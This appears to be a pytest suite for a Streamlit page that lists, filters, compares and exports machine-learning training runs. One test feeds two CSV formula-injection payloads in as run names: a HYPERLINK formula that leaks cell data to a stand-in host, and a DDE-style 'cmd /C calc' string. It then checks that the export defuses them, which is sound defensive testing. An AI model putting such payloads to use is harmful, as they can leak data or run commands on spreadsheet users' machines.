"""Runs & compare page: table, filters, rename, delete, clone, comparison charts."""

from __future__ import annotations

import base64
import io

import numpy as np
import pandas as pd
import plotly.graph_objects as go
import plotly.io as pio
import pytest
from streamlit.runtime.media_file_manager import MediaFileManager

from tests.support.evalutil import write_evaluation
from tests.support.markup import shown
from tlcore.results.evaluate import classification_metrics, mistakes
from tlcore.store import RunStore

RUNS = "app_pages/runs.py"


def _select(at, rows: list[int]) -> None:
    at.session_state["runs_table"] = {"selection": {"rows": rows, "columns": []}}
    at.run()


def test_table_shows_every_run_and_filters(app, populated):
    at = app(RUNS)
    table = at.dataframe(key="runs_table").value
    assert list(table.columns) == ["run", "id", "dataset", "status", "problem", "base.weights",
                                   "best_val_accuracy", "test_accuracy", "duration", "created"]
    # Newest first, with each run's id.
    assert table["run"].to_list() == ["oom", "sgd-avg", "adam-flatten"]
    assert table["id"].to_list() == [populated["failed"], populated["sgd"], populated["adam"]]
    assert table["duration"].to_list() == ["1m 35s"] * 3
    assert table["status"].to_list() == ["failed", "completed", "completed"]
    assert at.get("download_button")[0].label == "Download CSV"
    at.multiselect(key="runs_filter_status").select("failed").run()
    assert at.dataframe(key="runs_table").value["run"].to_list() == ["oom"]
    at.multiselect(key="runs_filter_dataset").select("pets")
    at.multiselect(key="runs_filter_status").unselect("failed").run()
    assert len(at.dataframe(key="runs_table").value) == 3


def test_a_failed_run_shows_its_problem_in_the_table(app, ws, populated):
    RunStore(ws).update_run(populated["failed"], error=(
        "Training diverged at epoch 2: the loss is nan. Lower the learning rate "
        "(train.learning_rate is now 10.0).\n\nTraceback (last lines):\n  ..."))
    at = app(RUNS)
    table = at.dataframe(key="runs_table").value
    assert list(table.columns[:5]) == ["run", "id", "dataset", "status", "problem"]
    assert table["problem"].fillna("").to_list() == [
        "Training diverged at epoch 2: the loss is nan. Lower the learning rate "
        "(train.learning_rate is now 10.0).", "", ""]


def test_chosen_columns_are_shown_and_kept(app, populated):
    at = app(RUNS)
    picker = at.multiselect(key="runs_columns")
    assert "Optimizer" in picker.options and "Run" not in picker.options  # labels are shown
    picker.set_value(["train.optimizer", "image_size", "device"]).run()
    assert not at.exception
    table = at.dataframe(key="runs_table").value
    assert list(table.columns) == ["run", "train.optimizer", "image_size", "device"]
    assert table["train.optimizer"].to_list() == ["adam", "sgd", "adam"]
    # Another page and back: the same columns.
    at.switch_page("app_pages/train.py").run()
    at.switch_page(RUNS).run()
    assert list(at.dataframe(key="runs_table").value.columns) == [
        "run", "train.optimizer", "image_size", "device"]
    at.multiselect(key="runs_columns").set_value([]).run()
    assert list(at.dataframe(key="runs_table").value.columns) == ["run"]


def test_selection_is_kept_in_the_url_and_a_link_restores_it(app, populated):
    at = app(RUNS)
    _select(at, [1, 2])
    assert at.query_params["runs"] == f"{populated['sgd']},{populated['adam']}"
    assert at.subheader[0].value == "Compare"
    _select(at, [])
    assert "runs" not in at.query_params

    # A shared link: the page opens with those runs ticked and compared.
    link = app()
    link.query_params["runs"] = f"{populated['adam']},{populated['sgd']}"
    link.switch_page(RUNS).run()
    assert not link.exception
    assert link.dataframe(key="runs_table").proto.selection_state
    assert link.session_state["runs_table"]["selection"]["rows"] == [2, 1]
    assert link.subheader[0].value == "Compare"
    assert not link.warning
    (present,) = link.get("link_button")
    assert present.proto.url == f"/present?runs={populated['adam']},{populated['sgd']}"


def test_a_link_to_runs_that_are_gone_names_them(app, populated):
    at = app()
    at.query_params["runs"] = f"{populated['sgd']},0123456789ab,[x](y)"
    at.switch_page(RUNS).run()
    assert not at.exception
    (warning,) = at.warning
    assert "0123456789ab, [x](y)" in shown(warning.value) and r"\[x\]\(y\)" in warning.value
    assert populated["sgd"] not in warning.value
    # The known run is still selected; the URL keeps only it.
    assert "Tick one more run" in at.info[0].value
    assert at.query_params["runs"] == populated["sgd"]


def test_selection_follows_its_runs_when_rows_move(app, populated, make_run):
    at = app(RUNS)
    _select(at, [1, 2])  # sgd-avg and adam-flatten
    make_run(name="newer")  # the new run takes the first row
    at.run()
    assert not at.exception
    assert at.query_params["runs"] == f"{populated['sgd']},{populated['adam']}"
    assert at.session_state["runs_table"]["selection"]["rows"] == [2, 3]


def test_two_selected_runs_are_compared(app, populated):
    at = app(RUNS)
    assert "Tick the boxes" in at.main.caption[-1].value
    _select(at, [0])
    assert "Tick one more run" in at.info[0].value
    _select(at, [1, 2])  # newest first: sgd-avg, adam-flatten
    assert not at.exception
    assert at.subheader[0].value == "Compare"
    # Learning curves, final metrics, parallel coordinates.
    assert len(at.get("plotly_chart")) == 3
    # Only differing fields: optimizer, learning rate, pooling, epochs, fine-tuning.
    (diff,) = [d.value for d in at.dataframe if "adam-flatten" in d.value.columns]
    assert set(diff.index) == {"head.pooling", "train.optimizer", "train.learning_rate",
                               "train.epochs", "fine_tune.blocks", "fine_tune.epochs"}
    assert diff.loc["train.optimizer"].to_list() == ["adam", "sgd"]
    at.segmented_control(key="runs_metric").set_value("loss").run()
    assert not at.exception


def test_rename_one_run(app, ws, populated):
    at = app(RUNS)
    _select(at, [1])
    at.text_input(key=f"runs_rename_{populated['sgd']}").input("sgd-renamed").run()
    at.button(key="runs_rename").click().run()
    assert not at.exception
    assert RunStore(ws).get_run(populated["sgd"])["name"] == "sgd-renamed"
    assert "sgd-renamed" in at.dataframe(key="runs_table").value["run"].to_list()


def test_delete_asks_first(app, ws, populated):
    at = app(RUNS)
    _select(at, [0])
    at.button(key="runs_delete").click().run()
    assert "Delete oom" in at.warning[0].value
    at.button(key="runs_delete_yes").click().run()
    assert not at.exception
    assert [r["name"] for r in RunStore(ws).list_runs()] == ["adam-flatten", "sgd-avg"]
    assert not ws.run(populated["failed"]).dir.exists()
    # The deleted run leaves the link too: no warning about a run the link names.
    assert "runs" not in at.query_params and not at.warning


def test_clone_and_edit_opens_train_prefilled(app, populated):
    at = app(RUNS)
    _select(at, [1])
    at.button(key="runs_clone").click().run()
    assert not at.exception
    assert at.title[0].value == "Train"
    assert at.selectbox(key="cfg.train.optimizer").value == "sgd"
    assert at.selectbox(key="cfg.head.pooling").value == "avg"
    assert at.number_input(key="cfg.train.learning_rate").value == 0.01
    assert at.selectbox(key="train_preset").value == "Cloned from sgd-avg"


# ---- stored evaluations: confusion matrices and per-class F1 deltas ---------------------------
PETS = ["cat", "dog", "bird"]
TRUE = [0, 0, 0, 1, 1, 1, 2, 2, 2]


def write_eval(ws, run_id: str, predicted: dict[str, list[int]]) -> dict:
    """An evaluation JSON of `run_id` on "pets" as `tlcore.results.evaluate` stores it."""
    splits = {}
    for split, pred in predicted.items():
        y = np.array(TRUE)
        probs = np.full((len(y), len(PETS)), 0.1)
        probs[np.arange(len(y)), pred] = 0.8
        files = [f"images/{t}/{split}-{i}.png" for i, t in enumerate(TRUE)]
        m = classification_metrics(y, probs, PETS)
        m["mistakes"] = mistakes(y, probs, PETS, files)
        m["samples"] = {"file": files, "true": TRUE, "predicted": list(pred),
                        "confidence": probs.max(1).tolist()}
        splits[split] = m
    evaluation = {"run_id": run_id, "dataset": "pets", "trained_on": "pets",
                  "domain_shift": False, "classes": PETS, "image_size": 32, "created": 1.8e9,
                  "eval_seconds": 1.0, "splits": splits}
    write_evaluation(ws, run_id, evaluation)
    return evaluation


def _figures(at) -> dict[str, go.Figure]:
    """Plotly figures on the page by their chart key (the spec is the figure's JSON)."""
    return {chart.key: pio.from_json(chart.proto.spec) for chart in at.get("plotly_chart")}


def _values(data) -> list:
    """A trace's array as a list (Plotly ships numpy arrays as base64 typed arrays)."""
    if isinstance(data, dict):
        flat = np.frombuffer(base64.b64decode(data["bdata"]), dtype=data["dtype"])
        shape = str(data.get("shape", len(flat)))
        data = flat.reshape([int(n) for n in shape.split(",")])
    return np.asarray(data).tolist()


def _cells(fig: go.Figure) -> list[list[int]]:
    """The counts written in a confusion heatmap."""
    return _values(fig.data[0].text)


def _captions(at) -> str:
    return "\n".join(shown(c.value) for c in at.caption)


@pytest.fixture
def evaluated(ws, populated):
    """adam-flatten and sgd-avg evaluated on their test and val splits."""
    write_eval(ws, populated["adam"], {"test": [0, 0, 1, 1, 1, 1, 2, 2, 0],
                                       "val": [0, 0, 0, 1, 1, 1, 2, 2, 2]})
    write_eval(ws, populated["sgd"], {"test": [0, 0, 0, 1, 1, 2, 2, 2, 2],
                                      "val": [0, 1, 0, 1, 1, 1, 2, 2, 2]})
    return populated


def test_two_evaluated_runs_show_confusion_matrices_and_f1_deltas(app, evaluated):
    at = app(RUNS)
    _select(at, [0, 1, 2])  # the failed run has no evaluation and needs none
    assert not at.exception, at.exception
    figs = _figures(at)
    assert {"runs_confusion_a", "runs_confusion_b", "runs_f1_delta"} <= set(figs)
    assert len(figs) == 6
    assert "Evaluate run" not in _captions(at)
    # Exactly two evaluated runs: no pair to pick (the one selectbox picks whose notes to edit).
    assert [s.key for s in at.selectbox] == ["runs_notes_run"]
    a, b = figs["runs_confusion_a"], figs["runs_confusion_b"]
    assert a.layout.title.text.startswith("adam-flatten · test accuracy")
    assert b.layout.title.text.startswith("sgd-avg · test accuracy")
    assert _cells(a) == [[2, 1, 0], [0, 3, 0], [1, 0, 2]]
    assert _cells(b) == [[3, 0, 0], [0, 2, 1], [0, 0, 3]]
    # F1 test: adam cat 2/3 dog 6/7 bird 4/5; sgd cat 1 dog 4/5 bird 6/7.
    delta = figs["runs_f1_delta"]
    assert list(delta.data[0].x) == PETS
    assert _values(delta.data[0].y) == pytest.approx([1 - 2 / 3, 4 / 5 - 6 / 7, 6 / 7 - 4 / 5])
    assert "sgd-avg minus adam-flatten" in delta.layout.title.text

    at.segmented_control(key="runs_eval_split").set_value("val").run()
    assert not at.exception
    figs = _figures(at)
    assert figs["runs_confusion_a"].layout.title.text.startswith(
        "adam-flatten · val accuracy 100.0%")
    assert _values(figs["runs_f1_delta"].data[0].y)[0] == pytest.approx(4 / 5 - 1)


def test_a_run_without_evaluation_gets_one_caption(app, ws, populated):
    write_eval(ws, populated["adam"], {"test": TRUE})
    at = app(RUNS)
    _select(at, [1, 2])
    assert not at.exception
    assert ("Evaluate run sgd-avg on the Evaluate page to compare confusion matrices."
            in _captions(at))
    assert set(_figures(at)) == {"runs_curves", "runs_final", "runs_parallel"}


def test_more_than_two_evaluated_runs_let_the_user_pick_two(app, ws, evaluated, make_run):
    third = make_run(name="third", train={"learning_rate": 0.1})
    write_eval(ws, third, {"test": TRUE})
    at = app(RUNS)
    _select(at, [0, 2, 3])  # third, sgd-avg, adam-flatten
    assert not at.exception
    assert at.selectbox(key="runs_eval_a").value == evaluated["adam"]
    assert at.selectbox(key="runs_eval_b").value == evaluated["sgd"]
    assert at.selectbox(key="runs_eval_b").options == ["sgd-avg", "third"]
    at.selectbox(key="runs_eval_b").set_value(third).run()
    assert not at.exception
    figs = _figures(at)
    assert "third minus adam-flatten" in figs["runs_f1_delta"].layout.title.text
    assert _cells(figs["runs_confusion_b"]) == [[3, 0, 0], [0, 3, 0], [0, 0, 3]]
    # A can become B's run: B then moves to the first other run.
    at.selectbox(key="runs_eval_a").set_value(third).run()
    assert not at.exception
    assert at.selectbox(key="runs_eval_b").value == evaluated["adam"]
    assert "adam-flatten minus third" in _figures(at)["runs_f1_delta"].layout.title.text


def test_equal_f1_says_so(app, ws, populated):
    for run in ("adam", "sgd"):
        write_eval(ws, populated[run], {"test": [2] * len(TRUE)})
    at = app(RUNS)
    _select(at, [1, 2])
    assert not at.exception
    assert "have the same F1 on every class they share" in _captions(at)
    assert _values(_figures(at)["runs_f1_delta"].data[0].y) == [0.0, 0.0, 0.0]


def test_csv_download_keeps_formula_like_names_as_text(app, populated, make_run, monkeypatch):
    formula = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"open")'
    make_run(name=formula)
    make_run(name="@SUM(1+1)*cmd|' /C calc'!A0")
    downloads = []
    add = MediaFileManager.add

    def record(self, path_or_data, mimetype, *args, **kwargs):
        if mimetype == "text/csv":
            downloads.append(path_or_data)
        return add(self, path_or_data, mimetype, *args, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add", record)
    at = app(RUNS)
    assert not at.exception
    table = pd.read_csv(io.BytesIO(downloads[-1]))
    # Newest first, as in the table.
    assert table["name"].to_list()[:2] == ["'@SUM(1+1)*cmd|' /C calc'!A0", "'" + formula]
    assert not table["name"].str.match(r"[=+\-@\t\r]").any()
    # Numbers stay numbers: the spreadsheet still sums and sorts them.
    assert pd.api.types.is_float_dtype(table["best_val_accuracy"])


def test_a_link_opened_after_a_visit_still_selects_its_runs(app, populated):
    at = app(RUNS)
    at.switch_page("app_pages/train.py").run()
    at.query_params["runs"] = populated["adam"]
    at.switch_page(RUNS).run()
    assert not at.exception
    assert at.session_state["runs_table"]["selection"]["rows"] == [2]
    assert "Tick one more run" in at.info[0].value


def test_the_column_picker_opens_with_its_columns_after_other_controls_rerun(app, populated):
    """The browser builds a popover's picker when it opens, from the default last sent."""
    at = app(RUNS)
    at.multiselect(key="runs_columns").set_value(["train.optimizer", "device"]).run()
    _select(at, [1, 2])
    at.segmented_control(key="runs_metric").set_value("loss").run()
    at.segmented_control(key="runs_splits").set_value(["val"]).run()
    picker = at.multiselect(key="runs_columns")
    assert picker.value == ["train.optimizer", "device"]
    assert [picker.options[i] for i in picker.proto.default] == ["Optimizer", "Device"]
    assert list(at.dataframe(key="runs_table").value.columns) == [
        "run", "train.optimizer", "device"]
    # The comparison's controls keep their values while another page is open.
    at.switch_page("app_pages/train.py").run()
    at.switch_page(RUNS).run()
    assert at.segmented_control(key="runs_metric").value == "loss"
    assert at.segmented_control(key="runs_splits").value == ["val"]


def test_the_table_offers_one_column_picker(app, populated):
    at = app(RUNS)
    styles = [h.proto.body for h in at.get("html")]
    assert any('.st-key-runs_table' in s and 'aria-label^="Show/hide columns"' in s
               and "display: none" in s for s in styles)


def test_a_search_keeps_the_runs_it_hides_ticked(app, populated):
    at = app(RUNS)
    _select(at, [1, 2])  # sgd-avg, adam-flatten
    at.text_input(key="runs_search").input("oom").run()
    assert at.dataframe(key="runs_table").value["run"].to_list() == ["oom"]
    assert at.query_params["runs"] == f"{populated['sgd']},{populated['adam']}"
    assert "Also ticked, hidden by the search or filters: sgd-avg, adam-flatten" in _captions(at)
    assert at.subheader[0].value == "Compare"  # the hidden runs are still compared
    _select(at, [0])  # and one more found by the search
    assert at.query_params["runs"] == ",".join(
        [populated["sgd"], populated["adam"], populated["failed"]])
    at.text_input(key="runs_search").input("").run()
    assert at.session_state["runs_table"]["selection"]["rows"] == [1, 2, 0]
    assert "Also ticked" not in _captions(at)
    # Unticked while shown, a run leaves the selection.
    _select(at, [0, 1])
    at.multiselect(key="runs_filter_status").select("completed").run()
    assert at.query_params["runs"] == f"{populated['sgd']},{populated['failed']}"


def test_ticked_runs_share_one_tags_and_note_editor(app, populated):
    at = app(RUNS)
    _select(at, [0, 1, 2])
    assert len(at.expander) == 1 and len(at.text_area) == 1
    assert at.selectbox(key="runs_notes_run").options == ["oom", "sgd-avg", "adam-flatten"]
    assert at.text_area(key=f"runs_note_{populated['failed']}")
    at.selectbox(key="runs_notes_run").set_value(populated["adam"]).run()
    assert [t.key for t in at.text_area] == [f"runs_note_{populated['adam']}"]


def test_the_comparison_reruns_on_its_own(app, populated, fragment_timers):
    at = app(RUNS)
    fragment_timers.clear()
    _select(at, [1, 2])
    assert "compare" in fragment_timers and fragment_timers["compare"] is None  # no timer


def test_csv_download_has_one_column_per_meaning(app, populated, monkeypatch):
    downloads = []
    add = MediaFileManager.add

    def record(self, path_or_data, mimetype, *args, **kwargs):
        if mimetype == "text/csv":
            downloads.append(path_or_data)
        return add(self, path_or_data, mimetype, *args, **kwargs)

    monkeypatch.setattr(MediaFileManager, "add", record)
    at = app(RUNS)
    assert not at.exception
    table = pd.read_csv(io.BytesIO(downloads[-1]))
    assert "run" not in table and table["name"].to_list() == ["oom", "sgd-avg", "adam-flatten"]
    assert "duration" not in table and table["duration_s"].to_list() == [95.0] * 3
    assert table["created"].str.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ").all()
